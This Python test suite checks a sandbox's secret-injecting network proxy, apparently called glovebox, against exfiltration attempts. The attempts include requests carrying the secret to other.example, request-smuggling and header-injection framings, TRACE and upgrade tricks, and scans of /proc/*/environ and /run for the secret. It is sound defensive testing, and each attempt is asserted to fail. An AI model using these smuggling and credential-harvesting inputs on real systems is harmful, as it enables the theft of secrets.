# SPDX-License-Identifier: Apache-2.0
"""A program in a sandbox that wants a secret's value, or wants it sent to where it does not belong."""

import subprocess
import unittest

from program import run
from secret_case import VALUE, SecretCase

from secure_network import Authority


class Attacks(SecretCase):
    """A program that wants the value, or wants it sent to where it does not belong."""

    def attack(self, code, api_has_it=False, **how):
        verdict = self.inside(code, **how)
        self.assertNotIn(VALUE, self.other.everything(), code)
        if not api_has_it:
            self.assertNotIn(VALUE, self.api.everything(), code)
        return verdict

    def test_01_the_placeholder_in_a_request_to_another_host(self):
        self.attack("print(say(secure(connect('other.example', OTHER), 'other.example'),"
                    " get(host=f'other.example:{OTHER}', headers=AUTH)))")
        self.assertIn("placeholder_", self.other.everything())

    def test_02_a_host_header_of_another_host(self):
        verdict = self.attack("print(to_api(get(host='other.example', headers=AUTH)))")
        self.assertIn("400", verdict["stdout"])

    def test_03_two_host_headers(self):
        self.attack("print(to_api(get(headers=f'Host: other.example\\r\\n{AUTH}')))")
        self.assertEqual(self.api.requests, [])

    def test_04_tls_for_another_host_within_the_tunnel(self):
        verdict = self.attack("attempt(lambda: say(secure(connect('api.example', API),"
                              " 'other.example', check=False), get(headers=AUTH)))")
        self.assertEqual(verdict["connections"][0]["verdict"], "denied")
        self.assertEqual(self.api.requests, [])

    def test_05_tls_for_the_host_in_a_tunnel_to_another(self):
        self.attack("attempt(lambda: say(secure(connect('other.example', OTHER), 'api.example',"
                    " check=False), get(headers=AUTH)))")
        self.assertEqual(self.other.requests, [])

    def test_06_the_host_by_its_address(self):
        # End to end: the guest's own TLS, and the placeholder as it is.
        self.attack("print(say(secure(connect('127.0.0.1', API), 'api.example'),"
                    " get(headers=AUTH)))")
        self.assertIn("placeholder_", self.api.everything())

    def test_07_another_port_of_the_host(self):
        self.attack("attempt(lambda: say(secure(connect('api.example', OTHER), 'api.example',"
                    " check=False), get(headers=AUTH)))", )

    def test_08_names_that_look_like_it(self):
        for name in ("xapi.example", "v2.api.example"):
            self.attack(f"attempt(lambda: say(secure(connect('{name}', API), '{name}', check=False),"
                        " get(headers=AUTH)))")

    def test_09_plain_http_to_the_port(self):
        verdict = self.attack("attempt(lambda: say(connect('api.example', API), get(headers=AUTH)))")
        self.assertEqual(verdict["connections"][0]["verdict"], "denied")

    def test_10_a_plain_request_to_the_proxy(self):
        self.attack("""
line = socket.create_connection(("127.0.0.1", 3128))
print(say(line, f"GET http://api.example:{API}/ HTTP/1.1\\r\\nHost: api.example:{API}\\r\\n{AUTH}\\r\\n"))
""")

    def test_11_a_redirect_to_another_host(self):
        self.attack("""
request = urllib.request.Request(f"https://api.example:{API}/redirect?https://other.example:{OTHER}/",
                                 headers={"Authorization": f"Bearer {TOKEN}"})
attempt(lambda: urllib.request.urlopen(request, timeout=60).read())
""", api_has_it=True)
        self.assertEqual(len(self.other.requests), 1)

    def test_12_a_server_that_echoes_the_request(self):
        verdict = self.attack("print(to_api(get('/echo', headers=AUTH)))", api_has_it=True)
        self.assertIn("*" * len(VALUE), verdict["stdout"])

    def test_13_two_lengths(self):
        self.attack("""
for framing in ("Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n",
                "Content-Length: 4\\r\\nContent-Length: 40\\r\\n",
                "Transfer-Encoding: chunked, identity\\r\\n", "Transfer-Encoding: xchunked\\r\\n",
                "Content-Length: +4\\r\\n", "Content-Length : 4\\r\\n", " X: y\\r\\n"):
    print(to_api(f"POST / HTTP/1.1\\r\\nHost: api.example:{API}\\r\\n{AUTH}{framing}\\r\\n0\\r\\n\\r\\n"))
""")
        self.assertEqual(self.api.requests, [])

    def test_14_a_request_within_a_body(self):
        self.attack("""
inner = get("/inner", headers=AUTH)
print(to_api(f"POST /outer HTTP/1.1\\r\\nHost: api.example:{API}\\r\\nConnection: close\\r\\n"
             f"Content-Length: {len(inner)}\\r\\n\\r\\n{inner}"))
""")
        self.assertEqual([path for _, path, *_ in self.api.requests], ["/outer"])

    def test_15_bare_line_breaks(self):
        self.attack("""
for head in (f"GET / HTTP/1.1\\nHost: api.example:{API}\\n{AUTH}\\n",
             f"GET / HTTP/1.1\\r\\nHost: api.example:{API}\\r\\nX: a\\rAuthorization: {TOKEN}\\r\\n\\r\\n",
             f"GET / HTTP/1.1\\r\\nHost: api.example:{API}\\r\\nX: a\\nAuthorization: {TOKEN}\\r\\n\\r\\n",
             f"GET / HTTP/1.1\\r\\nHost: api.example:{API}\\r\\nX: a\\0{TOKEN}\\r\\n\\r\\n"):
    line = secure(connect("api.example", API), "api.example")
    line.sendall(head.encode())
    line.settimeout(2)
    try:
        print(line.recv(100))
    except TimeoutError:
        print("nothing")
""")
        self.assertEqual(self.api.requests, [])

    def test_16_http_2(self):
        verdict = self.attack("""
line = secure(connect("api.example", API), "api.example", alpn=["h2", "http/1.1"])
print(line.selected_alpn_protocol())
print(say(line, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + b"\\0" * 9))
attempt(lambda: secure(connect("api.example", API), "api.example", alpn=["h2"]))
""")
        self.assertTrue(verdict["stdout"].startswith("http/1.1\n"), verdict)
        self.assertEqual(self.api.requests, [])

    def test_17_an_upgrade_to_something_else(self):
        self.attack("""
print(to_api(get("/upgrade", headers=AUTH, end="Connection: Upgrade, close\\r\\nUpgrade: h2c\\r\\n"
                 "HTTP2-Settings: AAAA\\r\\n")))
""", api_has_it=True)
        self.assertEqual(self.api.headers("Upgrade"), [])

    def test_18_trace_and_connect(self):
        self.attack("""
for method in ("TRACE / HTTP/1.1", f"CONNECT api.example:{API} HTTP/1.1",
               f"GET https://other.example:{OTHER}/ HTTP/1.1"):
    print(to_api(f"{method}\\r\\nHost: api.example:{API}\\r\\n{AUTH}Connection: close\\r\\n\\r\\n"))
""")
        self.assertEqual(self.api.requests, [])

    def test_19_the_placeholder_where_it_is_not_filled_in(self):
        self.attack("""
print(to_api(f"POST /{TOKEN}?{TOKEN} HTTP/1.1\\r\\nHost: api.example:{API}\\r\\n{TOKEN}: x\\r\\n"
             f"Connection: close\\r\\nContent-Length: {len(TOKEN)}\\r\\n\\r\\n{TOKEN}"))
""")
        self.assertEqual(len(self.api.requests), 1)

    def test_20_headers_that_grow(self):
        verdict = self.attack("""
print(to_api(get(headers="".join(f"X-{i}: {TOKEN * 15}\\r\\n" for i in range(80)))))
""", env={"TOKEN": VALUE * 200})
        self.assertIn("431", verdict["stdout"])

    def test_21_what_the_sandbox_can_see(self):
        verdict = self.attack("""
import glob, pathlib
found = []
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/maps", "/run/**/*", "/etc/**/*",
                "/tmp/**/*", "/workspace/**/*"):
    for name in glob.glob(pattern, recursive=True):
        try:
            text = pathlib.Path(name).read_bytes()
        except OSError:
            continue
        if b"s3cr3t" + b"-value" in text or b"PRIVATE" + b" KEY" in text and name.startswith("/run"):
            found.append(name)
print(found, [name for name in os.environ if "s3cr3t-" in os.environ[name]])
for process in glob.glob("/proc/[0-9]*/comm"):
    print(pathlib.Path(process).read_text().strip())
""")
        self.assertTrue(verdict["stdout"].startswith("[] []\n"), verdict)
        self.assertNotIn("glovebox-egress", verdict["stdout"])

    def test_22_the_authority_is_good_for_no_other_host(self):
        # What a stolen key of the authority could do: its certificate forbids other names.
        verdict = self.attack("""
print(open(os.environ["NODE_EXTRA_CA_CERTS"]).read())
""")
        certificate = self.file("ca.crt", verdict["stdout"])
        shown = subprocess.run(["openssl", "x509", "-in", certificate, "-noout", "-text"],
                               capture_output=True, text=True, check=True).stdout
        self.assertIn("Name Constraints: critical", shown)
        self.assertIn("DNS:api.example", shown)
        self.assertNotIn("other.example", shown)
        self.assertIn("pathlen:0", shown)

    def test_23_files_of_trust_cannot_be_changed(self):
        verdict = self.attack("""
for path in (os.environ["SSL_CERT_FILE"], os.environ["NODE_EXTRA_CA_CERTS"],
             "/etc/ssl/certs/ca-certificates.crt"):
    attempt(lambda: open(path, "a"))
    attempt(lambda: os.remove(path))
""")
        self.assertEqual(verdict["stdout"].count("Error"), 6, verdict)

    def test_24_other_hosts_stay_encrypted_to_the_end(self):
        verdict = self.attack("""
line = secure(connect("other.example", OTHER), "other.example")
print(dict(part[0] for part in line.getpeercert()["issuer"])["commonName"])
""")
        self.assertEqual(verdict["stdout"], "Test Authority\n")

    def test_25_a_name_that_is_bound_to_the_attacker(self):
        # DNS leads to a server that cannot prove its name: the secret stays.
        impostor = self.serve(self.other_certificate)
        verdict = self.attack(
            f"attempt(lambda: say(secure(connect('api.example', {impostor.port}), 'api.example'),"
            f" get(host='api.example:{impostor.port}', headers=AUTH)))",
            options=["--secret", f"TOKEN@api.example:{impostor.port}",
                     "--allow-net", f"127.0.0.1:{impostor.port}"])
        self.assertIn("502", verdict["stdout"])
        self.assertIn("its certificate is not accepted", verdict["connections"][0]["reason"])
        self.assertEqual(impostor.requests, [])

    def test_26_certificates_that_no_client_accepts(self):
        stranger = Authority(self.dir, "Stranger")
        for certificate in (stranger.issue("api.example"),
                            self.authority.issue("api.example", days=-1),
                            self.authority.issue("*.example.api.example")):
            impostor = self.serve(certificate)
            verdict = self.attack(
                f"attempt(lambda: say(secure(connect('api.example', {impostor.port}),"
                f" 'api.example'), get(host='api.example:{impostor.port}', headers=AUTH)))",
                options=["--secret", f"TOKEN@api.example:{impostor.port}",
                         "--allow-net", f"127.0.0.1:{impostor.port}"])
            self.assertIn("502", verdict["stdout"], certificate)
            self.assertEqual(verdict["connections"][0]["verdict"], "failed")
            self.assertEqual(impostor.requests, [])

    def test_27_a_server_that_speaks_no_tls(self):
        plain = self.serve(None, tls=False)
        self.attack(f"attempt(lambda: say(secure(connect('api.example', {plain.port}),"
                    f" 'api.example'), get(host='api.example:{plain.port}', headers=AUTH)))",
                    options=["--secret", f"TOKEN@api.example:{plain.port}",
                             "--allow-net", f"127.0.0.1:{plain.port}"])
        self.assertNotIn(VALUE, plain.everything())

    def test_28_requests_before_the_answer(self):
        # Pipelined, they go on one after the other, each filled in.
        verdict = self.attack("print(to_api(get('/a', headers=AUTH, end='') + get('/b', headers=AUTH,"
                              " end='') + get('/c', headers=AUTH)))", api_has_it=True)
        self.assertEqual([path for _, path, *_ in self.api.requests], ["/a", "/b", "/c"], verdict)
        self.assertEqual(verdict["stdout"].count("here you are"), 3)

    def test_29_the_command_line_of_glovebox_has_no_value(self):
        # Refused, and not repeated: it would have been visible to every user of the machine.
        answer = run("-l", "python", "-e", "0", "--secret", f"TOKEN={VALUE}@api.example",
                     env=self.environment())
        self.assertEqual(answer.status, 2)
        self.assertNotIn(VALUE, answer.message)

    def test_30_values_that_no_header_carries(self):
        for value in ("", "two\nlines", "a\x01b", " blank", "x" * 9000):
            answer = run("-l", "python", "-e", "0", "--secret", "TOKEN@api.example",
                         env=self.environment(TOKEN=value))
            self.assertEqual(answer.status, 2, answer)
            if len(value) > 2:
                self.assertNotIn(value, answer.message)


if __name__ == "__main__":
    unittest.main()
